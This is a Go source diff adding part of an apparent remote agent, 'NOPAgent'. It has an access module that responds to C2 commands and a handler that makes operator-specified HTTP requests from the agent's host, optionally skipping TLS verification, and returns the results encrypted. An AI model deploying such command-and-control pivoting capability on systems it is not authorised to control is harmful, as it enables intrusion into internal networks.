@@ -0,0 +1,144 @@
+package core
+
+import (
+	"bytes"
+	"crypto/tls"
+	"encoding/base64"
+	"io"
+	"log"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+	"unicode/utf8"
+)
+
+// ============================================================================
+// ACCESS MODULE - Remote access and command execution
+// ============================================================================
+func (a *NOPAgent) AccessModule() {
+	if !a.capabilities["access"] {
+		return
+	}
+	log.Printf("[%s] Access module started (listen-only mode)", time.Now().Format(time.RFC3339))
+	// Access module only responds to C2 commands for security
+	// No autonomous actions
+}
+
+// ============================================================================
+// NETWORK TOOLS - Requests issued from the agent's vantage point
+// ============================================================================
+
+// handleHTTPRequest performs an HTTP request for the operator and returns the
+// status, headers and a body capped at "max_body" bytes (default 64 KiB)
+func (a *NOPAgent) handleHTTPRequest(msg map[string]interface{}) {
+	if !a.capabilities["access"] {
+		a.sendError("http_request", msg, newAgentError(ErrNotSupported, "capability_disabled", "access capability is not enabled"))
+		return
+	}
+
+	target, _ := msg["url"].(string)
+	u, err := url.Parse(target)
+	if err != nil || u.Host == "" || (u.Scheme != "http" && u.Scheme != "https") {
+		a.sendError("http_request", msg, newAgentError(ErrInvalidRequest, "invalid_url", "url must be an absolute http(s) URL"))
+		return
+	}
+	method, _ := msg["method"].(string)
+	if method == "" {
+		method = http.MethodGet
+	}
+
+	var body io.Reader
+	if encoded, ok := msg["body_base64"].(string); ok && encoded != "" {
+		data, err := base64.StdEncoding.DecodeString(encoded)
+		if err != nil {
+			a.sendError("http_request", msg, newAgentError(ErrInvalidRequest, "invalid_body", "body_base64 is not valid base64"))
+			return
+		}
+		body = bytes.NewReader(data)
+	} else if text, ok := msg["body"].(string); ok && text != "" {
+		body = strings.NewReader(text)
+	}
+
+	timeout := 15 * time.Second
+	if val, ok := msg["timeout"].(float64); ok && val > 0 {
+		timeout = time.Duration(val * float64(time.Second))
+	}
+	if timeout > 120*time.Second {
+		timeout = 120 * time.Second
+	}
+	maxBody := int64(64 << 10)
+	if val, ok := msg["max_body"].(float64); ok && val > 0 {
+		maxBody = int64(val)
+	}
+	if limit, ok := a.config["http_request_max_body"].(float64); ok && limit > 0 && maxBody > int64(limit) {
+		maxBody = int64(limit)
+	}
+
+	req, err := http.NewRequest(strings.ToUpper(method), u.String(), body)
+	if err != nil {
+		a.sendError("http_request", msg, newAgentError(ErrInvalidRequest, "invalid_request", "%v", err))
+		return
+	}
+	if headers, ok := msg["headers"].(map[string]interface{}); ok {
+		for k, v := range headers {
+			if s, ok := v.(string); ok {
+				req.Header.Set(k, s)
+			}
+		}
+	}
+	if host := req.Header.Get("Host"); host != "" {
+		req.Host = host
+	}
+
+	insecure, _ := msg["insecure"].(bool)
+	client := &http.Client{
+		Timeout:   timeout,
+		Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: insecure}},
+	}
+	if follow, ok := msg["follow_redirects"].(bool); ok && !follow {
+		client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
+	}
+
+	started := time.Now()
+	resp, err := client.Do(req)
+	if err != nil {
+		a.sendError("http_request", msg, err)
+		return
+	}
+	defer resp.Body.Close()
+
+	data, err := io.ReadAll(io.LimitReader(resp.Body, maxBody+1))
+	if err != nil {
+		a.sendError("http_request", msg, err)
+		return
+	}
+	truncated := int64(len(data)) > maxBody
+	if truncated {
+		data = data[:maxBody]
+	}
+
+	headers := make(map[string]string, len(resp.Header))
+	for k := range resp.Header {
+		headers[k] = strings.Join(resp.Header.Values(k), ", ")
+	}
+
+	result := map[string]interface{}{
+		"type":        "http_request_result",
+		"agent_id":    a.agentID,
+		"request_id":  msg["request_id"],
+		"url":         u.String(),
+		"status":      resp.Status,
+		"status_code": resp.StatusCode,
+		"headers":     headers,
+		"truncated":   truncated,
+		"elapsed_ms":  time.Since(started).Milliseconds(),
+		"timestamp":   time.Now().UTC().Format(time.RFC3339),
+	}
+	if utf8.Valid(data) {
+		result["body"] = string(data)
+	} else {
+		result["body_base64"] = base64.StdEncoding.EncodeToString(data)
+	}
+	a.sendEncrypted(result)
+}